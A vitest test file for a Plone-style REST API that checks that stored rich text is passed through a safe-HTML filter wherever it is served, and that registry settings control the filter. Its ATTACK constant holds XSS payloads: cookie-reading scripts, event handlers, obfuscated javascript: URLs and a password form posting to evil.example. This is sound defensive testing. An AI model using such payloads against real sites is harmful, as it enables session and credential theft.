// Stored XSS through rich text (issue 9 item 3, supplement-2 §5): rich text is served through the
// safe-HTML filter wherever it is served (GET, fullobjects, @search fullobjects, old versions,
// @inherit; HTML comments too, see src/endpoints/comments/text.test.ts), configured from the registry records plone.valid_tags, nasty_tags,
// custom_attributes and disable_filtering. The filter runs on output: the stored source stays what
// the editor sent, and `text/x-html-safe` cannot be written.
import { beforeAll, describe, expect, it } from 'vitest';
import { connect, type Api } from './client.ts';

const ATTACK = [
  '<p onclick="steal()">Hello <b>world</b><script>alert(document.cookie)</script></p>',
  '<a href="javascript:alert(1)">one</a><a href="  JaVa&#115;cript:alert(2)">two</a><a href="https://plone.org/">ok</a>',
  '<img src="x.png" onerror="alert(3)" alt="pic"><img src="data:image/svg+xml;base64,PHN2Zz4=" alt="svg">',
  '<style>body{display:none}</style><iframe src="https://video.example/embed" onload="x()"></iframe>',
  '<form action="https://evil.example"><input name="pw"><button>Send</button></form>',
].join('');

const FILTERED = [
  '<p>Hello <b>world</b></p>',
  '<a>one</a><a>two</a><a href="https://plone.org/">ok</a>',
  '<img src="x.png" alt="pic" /><img alt="svg" />',
  '<iframe src="https://video.example/embed"></iframe>',
  'Send',
].join('');

let api: Api;
let box: string;
let docPath: string;

const setRegistry = (body: Record<string, unknown>) => api.patch('/@registry', body);
const textOf = async (path: string, auth: 'admin' | 'anonymous' = 'anonymous') => (await api.get(path, { auth })).body.text.data as string;

beforeAll(async () => {
  api = await connect();
  box = await api.sandbox();
  expect((await api.post(`${box}/@workflow/publish`)).status).toBe(200);
  const r = await api.post(box, { '@type': 'Document', id: 'page', title: 'Page', text: { data: ATTACK, 'content-type': 'text/html', encoding: 'utf8' } });
  expect(r.status, r.text).toBe(201);
  docPath = `${box}/page`;
  expect((await api.post(`${docPath}/@workflow/publish`)).status).toBe(200);
});

describe('rich text is filtered where it is served', () => {
  it('GET: scripts, event handlers, script and data URLs, nasty tags and unknown tags go; the rest stays', async () => {
    const r = await api.get(docPath, { auth: 'anonymous' });
    expect(r.status).toBe(200);
    expect(r.body.text).toEqual({ 'content-type': 'text/html', data: FILTERED, encoding: 'utf-8' });
  });

  it('the answer of the write itself, fullobjects listings, @search fullobjects, @inherit-free paths and old versions', async () => {
    const created = await api.post(box, { '@type': 'Document', id: 'second', title: 'Second', text: ATTACK }, { headers: { Prefer: 'return=representation' } });
    expect(created.body.text.data).toBe(FILTERED);
    const folder = await api.get(`${box}?fullobjects=1`, { auth: 'anonymous' });
    expect(folder.body.items.find((i: { id: string }) => i.id === 'page').text.data).toBe(FILTERED);
    const search = await api.get(`${box}/@search?portal_type=Document&fullobjects=1&id=page`, { auth: 'anonymous' });
    expect(search.body.items[0].text.data).toBe(FILTERED);
    expect((await api.patch(`${box}/second`, { text: '<p>v2</p>' })).status).toBe(204);
    const old = await api.get(`${box}/second/@history/0`);
    expect(old.status).toBe(200);
    expect(old.body.text.data).toBe(FILTERED);
    expect((await api.get(`${box}/second?version=0`)).body.text.data).toBe(FILTERED);
  });
});

describe('the filter settings are the registry records', () => {
  it('are listed with Plone defaults and changed by Managers only', async () => {
    expect((await api.get('/@registry/plone.nasty_tags')).body).toEqual(['style', 'object', 'embed', 'applet', 'script', 'meta']);
    expect((await api.get('/@registry/plone.valid_tags')).body).toHaveLength(90);
    expect((await api.get('/@registry/plone.custom_attributes')).body).toEqual(['style', 'controls', 'poster', 'autoplay', 'loading', 'srcset', 'sizes', 'open']);
    expect((await api.get('/@registry/plone.disable_filtering')).body).toBe(false);
    const editor = { user: 'rt-siteadmin', password: 'rt-siteadmin-pw' };
    expect((await api.post('/@users', { username: editor.user, password: editor.password, email: 'rt@example.com', roles: ['Site Administrator'] })).status).toBe(201);
    expect((await api.patch('/@registry', { 'plone.disable_filtering': true }, { auth: editor })).status).toBe(401);
    expect(await textOf(docPath)).toBe(FILTERED);
  });

  it('changing them changes the output; the stored source was kept as sent', async () => {
    // form/input/button become valid, iframe does not; data-* attributes are allowed.
    const valid = (await api.get('/@registry/plone.valid_tags')).body.filter((t: string) => t !== 'iframe');
    expect((await setRegistry({ 'plone.valid_tags': [...valid, 'form', 'button'], 'plone.custom_attributes': ['action'] })).status).toBe(204);
    const changed = await textOf(docPath);
    expect(changed).toContain('<form action="https://evil.example"><button>Send</button></form>');
    expect(changed).not.toContain('<iframe');
    expect(changed).not.toContain('onclick');
    // A nasty tag that is also valid is kept; one that is not goes with its content.
    expect((await setRegistry({ 'plone.nasty_tags': ['script', 'form'] })).status).toBe(204);
    expect(await textOf(docPath)).toContain('<form action="https://evil.example">');
    expect((await setRegistry({ 'plone.valid_tags': [...valid, 'button'] })).status).toBe(204);
    const killed = await textOf(docPath);
    expect(killed).not.toContain('<form');
    expect(killed).not.toContain('Send');
    // `style` no longer nasty and not valid: the tag goes, its text stays.
    expect(killed).toContain('body{display:none}');
    expect(killed).not.toContain('<style');
    // Filtering off: the source exactly as the editor sent it.
    expect((await setRegistry({ 'plone.disable_filtering': true })).status).toBe(204);
    expect(await textOf(docPath)).toBe(ATTACK);
    // Back to the defaults.
    const defaults = { 'plone.disable_filtering': false, 'plone.nasty_tags': ['style', 'object', 'embed', 'applet', 'script', 'meta'], 'plone.custom_attributes': ['style', 'controls', 'poster', 'autoplay', 'loading', 'srcset', 'sizes', 'open'] };
    expect((await setRegistry({ ...defaults, 'plone.valid_tags': [...valid, 'iframe'].sort() })).status).toBe(204);
    expect(await textOf(docPath)).toBe(FILTERED);
  });

  it('text/x-html-safe cannot be written (400) and nothing changes', async () => {
    const r = await api.patch(docPath, { title: 'Changed', text: { data: '<p>x</p>', 'content-type': 'text/x-html-safe' } });
    expect(r.status).toBe(400);
    expect(r.text).toContain('Not allowed to set content-type text/x-html-safe');
    const after = await api.get(docPath);
    expect(after.body.title).toBe('Page');
    expect(after.body.text.data).toBe(FILTERED);
  });
});
